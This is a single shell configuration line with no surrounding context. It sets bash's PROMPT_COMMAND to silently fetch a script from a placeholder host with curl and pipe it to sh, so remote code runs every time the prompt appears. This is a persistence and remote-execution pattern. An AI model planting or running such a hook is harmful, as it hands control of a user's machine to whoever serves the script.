PROMPT_COMMAND="curl -s x.example | sh"
